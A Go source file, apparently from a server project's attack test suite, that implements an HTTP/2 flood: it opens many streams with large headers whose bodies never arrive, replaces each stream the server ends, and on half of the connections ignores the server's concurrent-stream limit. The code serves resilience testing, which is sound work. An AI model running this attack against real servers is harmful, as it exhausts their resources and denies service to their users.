package flood

import (
	"context"

	"golang.org/x/net/http2"

	"github.com/realmkeeper/realmkeeper/test/attack/attacker"
	"github.com/realmkeeper/realmkeeper/test/attack/h2"
)

const (
	// unfinished is the number of unfinished requests on a connection.
	unfinished = 100
	// headerBytes is the size of the headers of each of them.
	headerBytes = 14 << 10
)

// unfinishedRequests starts requests with large headers, whose bodies never arrive. It starts
// another one for each that the server ends. Every other connection ignores how many streams the
// server allows.
func unfinishedRequests(ctx context.Context, s *attacker.Session) error {
	c, err := h2.Open(ctx, s)
	if err != nil {
		return err
	}
	defer c.Close()
	// free has a value for each stream that can be opened.
	free := make(chan struct{}, 10*unfinished)
	open := func(n int) {
		for range n {
			select {
			case free <- struct{}{}:
			default:
			}
		}
	}
	obedient := s.Number()%2 == 0
	if !obedient {
		open(unfinished)
	}
	c.Handle = func(frame http2.Frame) {
		open(opened(frame, obedient))
	}
	ended := c.Read()
	block := h2.Headers(s, "POST", s.Post, headerBytes)
	for id := uint32(1); ; id += 2 {
		select {
		case <-ctx.Done():
			return nil
		case <-ended:
			return nil
		case <-free:
		}
		if err := c.Framer.WriteHeaders(http2.HeadersFrameParam{StreamID: id, BlockFragment: block, EndHeaders: true}); err != nil {
			return err
		}
		s.Requested()
	}
}

// opened returns how many more streams can be opened after a frame of the server.
func opened(frame http2.Frame, obedient bool) int {
	switch f := frame.(type) {
	case *http2.SettingsFrame:
		if !obedient || f.IsAck() {
			return 0
		}
		if most, limited := f.Value(http2.SettingMaxConcurrentStreams); limited {
			return int(min(most, unfinished))
		}
		return unfinished
	case *http2.RSTStreamFrame:
		return 1
	default:
		if frame.Header().Flags.Has(http2.FlagHeadersEndStream) {
			return 1 // the end of HEADERS or DATA
		}
	}
	return 0
}
